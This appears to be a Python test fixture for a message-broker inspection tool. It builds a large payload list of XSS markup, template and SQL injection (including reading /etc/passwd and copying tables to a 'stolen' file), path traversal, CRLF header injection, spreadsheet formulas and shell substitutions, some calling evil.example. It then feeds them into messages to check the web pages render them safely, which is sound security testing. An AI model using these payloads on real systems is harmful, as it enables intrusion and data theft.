"""Strings that attack pages: markup, scripts, SQL, paths, templates, headers, odd characters.

They are made of parts that are known everywhere: each attack in each wrapping that may free it from
its place. `MARK` is what a script would call, so that a browser tells whether one ran.
"""

import json
from itertools import product
from typing import Any, Final
from urllib.parse import quote, urlencode

from streaming.broker import commands
from streaming.contents.search_index import SearchIndexer
from streaming.contents.updater import ContentsUpdater
from tests.builders import Broker
from tests.unit.queries.recording import QUERY_ID, Recording

MARK: Final = "alert(4711)"

_BREAKOUTS: Final = ("", '">', "'>", "</td>", "</textarea>", "</title>", "</pre>", "-->")
_MARKUP: Final = (
    f"<script>{MARK}</script>",
    f"<ScRiPt>{MARK}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={MARK}>",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<body onload={MARK}>",
    f"<iframe src=javascript:{MARK}></iframe>",
    f"<iframe srcdoc='<script>{MARK}</script>'></iframe>",
    f"<a href=javascript:{MARK}>x</a>",
    f"<details open ontoggle={MARK}>",
    f"<video><source onerror={MARK}></video>",
    f"<input autofocus onfocus={MARK}>",
    f"<math><mtext></mtext><script>{MARK}</script></math>",
    f"<form action=javascript:{MARK}><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<object data=//evil.example/x.swf></object>",
    f"<div hx-get=/sql hx-trigger=load hx-on::load={MARK}>",
    f"<template><script>{MARK}</script></template>",
)
_ATTRIBUTES: Final = tuple(
    f"{quotation}{space}{name}={MARK}{space}x={quotation}"
    for quotation, space, name in product(
        ('"', "'", ""),
        (" ", "\t", "/", "\n"),
        ("onmouseover", "onfocus autofocus onfocus", "onpointerenter", "style=x onload"),
    )
)
_ADDRESSES: Final = tuple(
    f"{scheme}{rest}"
    for scheme, rest in product(
        ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "data:text/html,"),
        (MARK, f"//%0a{MARK}", f"<script>{MARK}</script>", quote(MARK)),
    )
)
_TEMPLATES: Final = tuple(
    f"{begin}{inside}{end}"
    for (begin, end), inside in product(
        (("{{", "}}"), ("{%", "%}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("{#", "#}")),
        ("7*7", "config", "''.__class__.__mro__", "view.console.config", "self._TemplateReference"),
    )
)
_SQL: Final = tuple(
    f"{quotation}{attack}{comment}"
    for quotation, attack, comment in product(
        ("", "'", '"', "')", "'))"),
        (
            " OR 1=1",
            " OR 'a'='a",
            " UNION SELECT * FROM messages",
            " UNION ALL BY NAME FROM read_text('/etc/passwd')",
            "; DROP TABLE events",
            "; COPY messages TO '/tmp/dlx-stolen.csv'",
            "; ATTACH '/tmp/dlx-stolen.db' AS stolen",
            " AND (SELECT count(*) FROM glob('/etc/*')) > 0",
            "; SET enable_external_access = true",
        ),
        ("", " --", " /*"),
    )
)
_PATHS: Final = tuple(
    f"{climb * times}{file}"
    for climb, times, file in product(
        ("../", "..\\", "%2e%2e/", "....//", "..%252f"),
        (1, 4, 12),
        ("etc/passwd", "proc/self/environ", "dlx.toml", "etc/passwd\x00.json"),
    )
)
_CHARACTERS: Final = (
    *("\x00", "\x07bell", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x9b31m", "\x7f", "\u200b"),
    *("\u202egnp.exe", "\u2066hidden\u2069", "\u200fright", "\ufeff", "\u2028line", "\u2029"),
    *("\r\nSet-Cookie: stolen=1", "%0d%0aLocation: //evil.example", "a\nb", "\U000e0041", "\x85"),
    *("=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "$(id)", "`id`", "; id", "| id", "&& id", "%s%n"),
    *("\uff1cscript\uff1e", "&lt;script&gt;", "&#x3c;script&#x3e;", "+ADw-script+AD4-", "\\x3cb"),
    *("9" * 400, "-1", "1e999", "NaN", "__proto__", "constructor", "null", "true", "[]", "{}"),
)

INJECTIONS: Final = tuple(
    dict.fromkeys(
        (
            *("".join(parts) for parts in product(_BREAKOUTS, _MARKUP)),
            *_ATTRIBUTES,
            *_ADDRESSES,
            *_TEMPLATES,
            *_SQL,
            *_PATHS,
            *_CHARACTERS,
        )
    )
)
"""All of them, each once."""


def attacked_tables(root: Any, last: str) -> str:
    """Write tables whose bodies, headers, users, queues and correlation ids are attacks; all died.

    Args:
        last: the body of one more message.
    """
    broker = Broker()
    recording = Recording(root, broker)
    broker.queue("work", dead_letter_exchange="", dead_letter_routing_key="dead")
    broker.queue("dead")
    for name in INJECTIONS[::12]:
        broker.queue(name[:120])
    for number, one in enumerate((*INJECTIONS, last)):
        headers = {"x-exception": one, one[:100] or "empty": one}
        pair = INJECTIONS[number // 2 * 2 % len(INJECTIONS)][:200]
        properties: dict[str, Any] = {"message_id": f"m{number}", "correlation_id": pair}
        broker.publish("", "work", one, headers=headers, user=one[:50], **properties)
    broker.get("work", "g", len(INJECTIONS) + 1, channel="<script>", user="<b>anna</b>")
    refs = tuple(f"g/{number}" for number in range(len(INJECTIONS) + 1))
    broker.do(commands.Reject(refs=refs, channel="<script>"), user="<b>anna</b>")
    recording.commit()
    ContentsUpdater(recording.place).update()
    recording.close()
    return recording.root


TWICE: Final = tuple(one for one in INJECTIONS[::20] if one.strip())
"""Attacks whose messages died twice, in queues that are named like attacks, too."""


def tables_of_two_deaths(root: Any) -> str:
    """Write tables of attacks that died twice, with what belongs to them in the index of search."""
    broker = Broker()
    recording = Recording(root, broker)
    broker.queue("dead")
    for number, one in enumerate(TWICE):
        first, retry = f"{one[:100]} {number}", f"{number} {one[:100]}"
        retried = {"dead_letter_exchange": "", "dead_letter_routing_key": "dead"}
        broker.queue(retry, message_ttl=10, **retried)
        broker.queue(first, dead_letter_exchange="", dead_letter_routing_key=retry)
        given: dict[str, Any] = {"headers": {"tenant": one}, "message_id": f"m{number}"}
        for queue in (first, "dead"):
            broker.publish("", queue, json.dumps({"order": one}), user=one[:50], **given)
        broker.get(first, f"g{number}", 1, channel=one[:50], user=one[:50])
        refs = (f"g{number}/0",)
        broker.do(commands.Reject(refs=refs, channel=one[:50], reason=one), user=one[:50])
    broker.do(commands.Deployed(service=TWICE[0], version=TWICE[1], reason=TWICE[2]), user="ci")
    broker.at(1_000)
    recording.commit()
    SearchIndexer(recording.place, ("body:$.order", "header:tenant")).update(QUERY_ID)
    ContentsUpdater(recording.place).update()
    recording.close()
    return recording.root


def addresses_of_two_deaths() -> list[str]:
    """The pages that show them: first and last deaths, related messages, the account."""
    numbers = range(len(TWICE))
    return [
        *("/?as_of=0", "/search", "/causes?by=queue,reason,cause", "/balance", "/queues"),
        *("/audit", "/queue?queue=dead", "/topology?as_of=0"),
        *(f"/message?id=0/0/{2 * number}" for number in numbers),
        *(f"/find?{urlencode({'q': one})}" for one in TWICE),
        *(
            f"/queue?{urlencode({'queue': f'{one[:100]} {number}'})}"
            for number, one in enumerate(TWICE)
        ),
    ]
